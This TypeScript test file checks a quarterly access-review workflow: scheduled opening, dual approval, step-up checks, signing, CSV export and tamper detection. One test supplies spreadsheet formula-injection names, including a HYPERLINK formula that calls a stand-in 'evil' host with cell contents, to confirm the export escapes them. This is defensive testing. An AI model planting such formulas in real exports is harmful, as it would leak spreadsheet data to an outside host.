import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type Actor, clockActor, type Role } from '../../src/core/actor.ts';
import { sha256Hex } from '../../src/core/hash.ts';
import { isRefusal, type Refusal } from '../../src/core/refusal.ts';
import { authenticateToken } from '../../src/flows/authenticate.ts';
import { disablePerson } from '../../src/flows/change-people.ts';
import { bringLedgerUpToDate } from '../../src/flows/read-ledger.ts';
import {
  decideAccess,
  lookUpReview,
  openReviewNow,
  reviewCsv,
  reviewRecord,
  reviewsPage,
  signReview,
  watchAccess,
} from '../../src/flows/review-access.ts';
import { openTestHouse, type TestHouse } from '../support/house.ts';
import { tokenFor } from '../support/people.ts';
import { mailboxSources, messagesRetention, policiesFolder } from '../support/policies.ts';
import { newMember } from '../support/staff.ts';

let opened: TestHouse;
let now = Temporal.Instant.from('2026-08-03T09:00:00Z');
const page = { limit: 50, offset: 0 };

beforeEach(async () => {
  now = Temporal.Instant.from('2026-08-03T09:00:00Z');
  opened = await openTestHouse({
    policies: policiesFolder({ 'sources.yaml': mailboxSources, 'retention.yaml': messagesRetention }),
    env: { APP: 'postgres://nobody@127.0.0.1:1/nothing' },
    now: () => now,
  });
});
afterEach(() => opened.close());

function good<T>(value: T | Refusal): T {
  if (isRefusal(value)) throw new Error(`${value.code}: ${value.detail}`);
  return value;
}
const code = (value: unknown) => (isRefusal(value) ? value.code : 'no refusal');

/** Somebody of the staff, who has proved that it is them. */
async function person(role: Role, name: string): Promise<Actor> {
  const { id } = await newMember(opened.house.office, role, `${name}@example.com`);
  return { id, kind: 'person', role, approval: 'step_up' };
}
const entriesOf = async (kind: string) => {
  await bringLedgerUpToDate(opened.house.office);
  const rows = await opened.house.office.store.db.sql<{ e: { facts: Record<string, unknown> } }[]>`
    SELECT convert_from(bytes, 'UTF8')::jsonb AS e FROM ledger_entries WHERE kind = ${kind} ORDER BY index`;
  return rows.map(({ e }) => e.facts);
};

describe('the review of a quarter', () => {
  it('opens by itself in the night after the quarter, once, however many processes look', async () => {
    const { office } = opened.house;
    await person('admin', 'ada');
    expect(await watchAccess(office, clockActor, '2026-08-04T04:30:00.000Z')).toBeNull();
    now = Temporal.Instant.from('2026-10-01T09:00:00Z');
    const looks = await Promise.all(
      ['2026-10-01', '2026-10-01', '2026-10-01', '2026-10-02', '2026-10-03'].map((night) =>
        watchAccess(office, clockActor, `${night}T04:30:00.000Z`),
      ),
    );
    expect(looks.filter((review) => review !== null)).toHaveLength(1);
    expect((await reviewsPage(office, page)).map(({ quarter }) => quarter)).toEqual(['2026-Q3']);
    expect(await entriesOf('access.review_opened')).toMatchObject([{ quarter: '2026-Q3', people: 1, tokens: 0 }]);
  });

  it('is not opened for a time in which nothing was here, and made up for when a night was missed', async () => {
    const { office } = opened.house;
    expect(await watchAccess(office, clockActor, 'night 1')).toBeNull();
    // A process that died after it had claimed the night.
    now = Temporal.Instant.from('2026-10-01T09:00:00Z');
    await office.store.db.sql`INSERT INTO bells (name, slot, claimed_at) VALUES ('watch/access', 'night 2', now())`;
    expect(await watchAccess(office, clockActor, 'night 2')).toBeNull();
    expect(await watchAccess(office, clockActor, 'night 3')).toMatchObject({ quarter: '2026-Q3' });
  });

  it('is a table in which no name is calculated by a spreadsheet', async () => {
    const { office } = opened.house;
    const admin = await person('admin', 'ada');
    const said = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1', '-1', '@SUM(A1)'];
    // No flow makes such a name; a row of an older version may bear one.
    const kept = ['\tx', '\rx'];
    const names = [...said, ...kept];
    for (const name of [...said, 'kept 0', 'kept 1']) await tokenFor(office, { name, role: 'legal' });
    for (const [index, name] of kept.entries())
      await office.store.db.sql`UPDATE people SET name = ${name} WHERE name = ${`kept ${index}`}`;
    await tokenFor(office, { name: "O'Hara = 1", role: 'legal' });
    const { id } = good(await openReviewNow(office, admin));
    const csv = Buffer.from(good(await reviewCsv(office, id))).toString();
    for (const name of names) expect(csv).toContain(`,"'${name.replaceAll('"', '""')}",`);
    expect(csv).toContain(`,"O'Hara = 1",`);
  });

  it('shows everybody and every live token, as they are and what they did', async () => {
    const { office } = opened.house;
    const admin = await person('admin', 'ada');
    const left = await person('legal', 'leo');
    const secret = await tokenFor(office, { name: 'nightly', role: 'auditor', canApprove: false });
    good(await disablePerson(office, admin, left.id));
    const raised = await person('privacy', 'sam');
    await office.store.db.sql`UPDATE people SET role = 'admin' WHERE id = ${raised.id}`;
    now = now.add({ hours: 24 });
    await authenticateToken(office, secret);
    const review = good(await openReviewNow(office, admin));
    expect(review.quarter).toBe('2026-Q3/2026-08-04');
    const { sql } = office.store.db;
    const [token] = await sql`SELECT id, actor_id FROM tokens`;
    const byId = new Map(review.rows.map((row) => [row.id, row]));
    // Making the person of the test is the verb's doing; disabling is the administrator's own.
    expect(byId.get(admin.id)).toMatchObject({
      kind: 'person',
      role: 'admin',
      since: '2026-08-03T09:00:00.000Z',
      entries: expect.any(Number),
      disabledAt: null,
    });
    expect(byId.get(admin.id)?.entries).toBeGreaterThan(0);
    // Somebody made this one an administrator by SQL.
    expect(byId.get(raised.id)).toMatchObject({ role: 'admin', since: null });
    expect(byId.get(left.id)).toMatchObject({ disabledAt: '2026-08-03T09:00:00.000Z', lastUsedAt: null });
    expect(byId.get(String(token?.id))).toMatchObject({
      kind: 'token',
      actor: token?.actor_id,
      role: 'auditor',
      lastUsedAt: '2026-08-04T09:00:00.000Z',
      entries: null,
    });
    expect(code(await openReviewNow(office, admin))).toBe('conflict');
  });

  it('removes by the ordinary flows with their rules, is signed by hand, and then stays as it is', async () => {
    const { office } = opened.house;
    const [ada, uma, leo] = [
      await person('admin', 'ada'),
      await person('compliance', 'uma'),
      await person('legal', 'leo'),
    ];
    const secret = await tokenFor(office, { name: 'nightly', role: 'auditor', canApprove: false });
    const { id, rows } = good(await openReviewNow(office, ada));
    const token = rows.find(({ kind }) => kind === 'token');
    const service = rows.find(({ id: one }) => one === token?.actor);
    if (!token || !service) throw new Error('no token');
    const stale: Actor = { ...uma, approval: null };

    expect(code(await decideAccess(office, uma, id, [{ row: uma.id, keep: true }]))).toBe('second_person_needed');
    // What stays needs no proof; what goes does, and the last administrator stays whoever asks.
    const asked = [
      { row: ada.id, keep: true },
      { row: leo.id, keep: false },
    ];
    expect(code(await decideAccess(office, stale, id, asked))).toBe('step_up_needed');
    expect(code(await decideAccess(office, uma, id, [{ row: ada.id, keep: false }]))).toBe('not_allowed');
    expect(await office.store.db.sql`SELECT 1 FROM people WHERE disabled_at IS NOT NULL`).toHaveLength(0);
    const half = good(await lookUpReview(office, id)).review;
    expect(half.rows.find(({ id: row }) => row === ada.id)?.decision).toMatchObject({ keep: true, by: uma.id });
    expect(half.rows.find(({ id: row }) => row === leo.id)?.decision).toBeNull();

    good(
      await decideAccess(office, uma, id, [
        { row: leo.id, keep: false },
        { row: token.id, keep: false },
        { row: service.id, keep: true },
      ]),
    );
    expect(await authenticateToken(office, secret)).toBeNull();
    expect(code(await signReview(office, uma, id))).toBe('not_ready');
    good(await decideAccess(office, ada, id, [{ row: uma.id, keep: true }]));
    expect(code(await signReview(office, stale, id))).toBe('step_up_needed');
    const signatures = await Promise.all([signReview(office, uma, id), signReview(office, ada, id)]);
    expect(signatures.filter(isRefusal).map(({ code: why }) => why)).toEqual(['move_not_allowed']);

    const record = good(await reviewRecord(office, id));
    const facts = await entriesOf('access.review_signed');
    expect(facts).toEqual([
      { quarter: '2026-Q3/2026-08-03', people: 4, removed: 2, digest: sha256Hex(Buffer.from(record).toString()) },
    ]);
    expect(good(await lookUpReview(office, id))).toMatchObject({ isAsSigned: true, digest: facts[0]?.digest });
    for (const late of [
      await decideAccess(office, uma, id, [{ row: ada.id, keep: true }]),
      await signReview(office, ada, id),
    ])
      expect(code(late)).toBe('move_not_allowed');
    const csv = Buffer.from(good(await reviewCsv(office, id))).toString();
    expect(csv.split('\r\n')).toHaveLength(rows.length + 2);
    expect(csv).toContain('"Member leo@example.com"');

    // Somebody with the database changes who was kept.
    const { sql } = office.store.db;
    await sql`UPDATE access_reviews SET rows = jsonb_set(rows, '{0,role}', '"auditor"') WHERE id = ${id}`;
    expect(good(await lookUpReview(office, id))).toMatchObject({ isAsSigned: false, digest: facts[0]?.digest });
  });
});
